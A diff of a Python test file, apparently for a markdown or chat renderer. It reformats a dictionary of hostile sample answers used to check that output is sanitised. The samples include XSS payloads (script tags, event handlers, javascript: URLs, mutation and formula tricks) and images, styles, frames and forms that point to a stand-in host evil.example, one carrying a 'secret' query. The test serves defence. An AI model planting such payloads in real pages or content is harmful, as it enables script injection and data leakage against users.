@@ -15,20 +15,32 @@ EVIL = "https://evil.example"
 FAMILY = "👩‍👩‍👧‍👦"
 
 ANSWERS: dict[str, str] = {
-    "script tags": "<script>window.ran = 1</script>\n\n<script src='https://evil.example/x.js'></script> after",
+    "script tags": "<script>window.ran = 1</script>\n\n"
+    "<script src='https://evil.example/x.js'></script> after",
     "split script tags": "<scr<script>ipt>window.ran = 1</scr</script>ipt> after",
-    "event handlers": '<img src=x onerror="window.ran = 1"> <svg onload="window.ran=1"><b onclick="window.ran=1">bold</b> after',
-    "script URLs": "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) [c](data:text/html,<script>window.ran=1</script>) "
+    "event handlers": '<img src=x onerror="window.ran = 1"> <svg onload="window.ran=1">'
+    '<b onclick="window.ran=1">bold</b> after',
+    "script URLs": "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) "
+    "[c](data:text/html,<script>window.ran=1</script>) "
     "[d](vbscript:x) [e](\tjavascript:window.ran=1) <javascript:window.ran=1> after",
-    "images that leak": f"![x]({EVIL}/a.png?q=secret) ![y][z]\n\n[z]: {EVIL}/b.png\n\n<img src='{EVIL}/c.png'> after",
-    "style tricks": f'<style>body {{ background: url({EVIL}/s) }}</style><div style="position:fixed;inset:0;background:red">cover</div>'
+    "images that leak": f"![x]({EVIL}/a.png?q=secret) ![y][z]\n\n[z]: {EVIL}/b.png\n\n"
+    f"<img src='{EVIL}/c.png'> after",
+    "style tricks": f"<style>body {{ background: url({EVIL}/s) }}</style>"
+    '<div style="position:fixed;inset:0;background:red">cover</div>'
     f'<b style="background:url({EVIL}/t)">b</b> after',
-    "frames and forms": f"<iframe src='{EVIL}'></iframe><form action='{EVIL}'><input name=q><button>go</button></form>"
-    f"<object data='{EVIL}'></object><link rel=stylesheet href='{EVIL}/l.css'><meta http-equiv=refresh content='0;url={EVIL}'> after",
-    "names that shadow": '<a id="message" name="location">x</a><input id="page"> [x](#message) after',
-    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"> after',
-    "markup in code": "```<img src=x onerror=window.ran=1>\n</code></pre><script>window.ran=1</script>\n```\n\nafter",
-    "formulas": r"$\href{javascript:window.ran=1}{x}$ $\includegraphics{https://evil.example/f.png}$ $$\htmlStyle{position:fixed}{x}$$ "
+    "frames and forms": f"<iframe src='{EVIL}'></iframe><form action='{EVIL}'>"
+    "<input name=q><button>go</button></form>"
+    f"<object data='{EVIL}'></object><link rel=stylesheet href='{EVIL}/l.css'>"
+    f"<meta http-equiv=refresh content='0;url={EVIL}'> after",
+    "names that shadow": '<a id="message" name="location">x</a><input id="page"> [x](#message) '
+    "after",
+    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"> after',
+    "markup in code": "```<img src=x onerror=window.ran=1>\n"
+    "</code></pre><script>window.ran=1</script>\n```\n\nafter",
+    "formulas": r"$\href{javascript:window.ran=1}{x}$ "
+    r"$\includegraphics{https://evil.example/f.png}$ "
+    r"$$\htmlStyle{position:fixed}{x}$$ "
     r"$\def\a{\a\a}\a$ after",
     "an unclosed fence": "```js\nlet a = '</code><script>window.ran = 1</script>'\nafter",
     "a line of 100 KB": "x" * 100_000 + " after",
@@ -82,7 +94,8 @@ def check_harmless(window: Window) -> None:
     assert window.faults == []
     assert (
         page.locator(
-            ".answer :is(script, img, iframe, object, embed, form, link, meta, style, [onclick], [onerror], [onload])"
+            ".answer :is(script, img, iframe, object, embed, form, link, meta, style, "
+            "[onclick], [onerror], [onload])"
         ).count()
         == 0
     )
